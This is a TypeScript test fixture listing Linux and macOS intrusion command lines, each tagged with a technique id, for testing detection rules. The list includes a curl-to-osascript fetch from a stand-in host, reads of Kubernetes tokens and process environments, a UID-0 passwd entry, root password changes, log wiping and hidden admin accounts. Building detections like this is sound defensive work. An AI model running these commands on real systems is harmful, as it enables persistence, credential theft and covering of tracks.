import type { TemplatePlatform } from './builtin-sigma-agent';

/**
 * Command lines as intruders type them on Linux and macOS hosts, written for the tests of linux-techniques.ts and
 * macos-techniques.ts: [technique id, platform, command line]. techniques.spec.ts checks each gives a valid rule
 * that fires on it and not on the benign baseline.
 */
export const UNIX_SHOWN: Array<[string, TemplatePlatform, string]> = [
  ['ufw-ssh-denied', 'linux', 'ufw deny 22'],
  ['iptables-ssh-dropped', 'linux', 'iptables -I INPUT -p tcp --dport 22 -j DROP'],
  ['systemd-power-targets-masked', 'linux', 'systemctl mask sleep.target suspend.target hibernate.target'],
  ['setcap-setuid', 'linux', 'setcap cap_setuid+ep /usr/local/bin/.py3'],
  ['usermod-privileged-group', 'linux', 'usermod -aG sudo svc-backup'],
  ['suid-binary-search', 'linux', 'find / -perm -4000 -type f 2>/dev/null'],
  ['aslr-disabled', 'linux', 'echo 0 > /proc/sys/kernel/randomize_va_space'],
  ['log-emptied-by-redirect', 'linux', 'cat /dev/null > /var/log/auth.log; cat /dev/null > /var/log/wtmp'],
  ['systemd-generator-planted', 'linux', 'chmod 755 /etc/systemd/system-generators/net-sync-generator'],
  [
    'decoded-autostart-write',
    'linux',
    "echo 'W1NlcnZpY2VdCkV4ZWNTdGFydD0vb3B0Ly5xL3EK' | base64 -d > /etc/systemd/system/quill-sync.service",
  ],
  ['password-set-by-pipe', 'linux', "echo 'root:Qu1ll-2026' | chpasswd"],
  ['miner-msr-hugepages', 'linux', 'modprobe msr allow_writes=on'],
  ['process-environment-read', 'linux', 'cat /proc/1/environ'],
  ['ld-preload-temp-library', 'linux', 'LD_PRELOAD=/dev/shm/.q/libq.so /usr/bin/sudo -l'],
  ['passwd-file-appended', 'linux', "echo 'sync2:x:0:0::/root:/bin/bash' >> /etc/passwd"],
  ['docker-socket-api', 'linux', 'curl -s --unix-socket /var/run/docker.sock http://localhost/containers/json'],
  ['k8s-service-account-token-read', 'linux', 'cat /var/run/secrets/kubernetes.io/serviceaccount/token'],
  ['kernel-ring-buffer-cleared', 'linux', 'dmesg -C'],
  ['sshpass-password', 'linux', "sshpass -p 'Qu1ll-2026' ssh -o StrictHostKeyChecking=no root@10.20.30.44"],
  ['dscl-user-create', 'macos', 'dscl . -create /Users/qsupport UniqueID 502'],
  ['keyboard-layout-check', 'macos', 'defaults read ~/Library/Preferences/com.apple.HIToolbox.plist AppleEnabledInputSources'],
  ['public-ip-lookup', 'macos', 'curl -s https://api.ipify.org'],
  ['csrutil-disable', 'macos', 'csrutil disable'],
  ['tccutil-reset', 'macos', 'tccutil reset All'],
  ['tmutil-backup-tamper', 'macos', 'tmutil disable'],
  ['chflags-hidden', 'macos', 'chflags hidden /Users/Shared/.quill'],
  ['macos-hidden-account', 'macos', 'dscl . -create /Users/qsupport IsHidden 1'],
  ['sysadminctl-user-add', 'macos', 'sysadminctl -addUser qsupport -password Qu1ll-2026 -admin'],
  ['osascript-clipboard', 'macos', "osascript -e 'return (the clipboard as text)'"],
  ['osascript-muted', 'macos', "osascript -e 'set volume with output muted'"],
  ['fetched-applescript-run', 'macos', 'curl -fsSL https://quill-cdn.example/s.applescript | osascript'],
  ['networksetup-proxy', 'macos', 'networksetup -setsecurewebproxy Wi-Fi 198.51.100.40 8080'],
  ['sudo-password-piped', 'macos', "echo 'hunter2' | sudo -S cp /tmp/.q /usr/local/bin/q"],
];
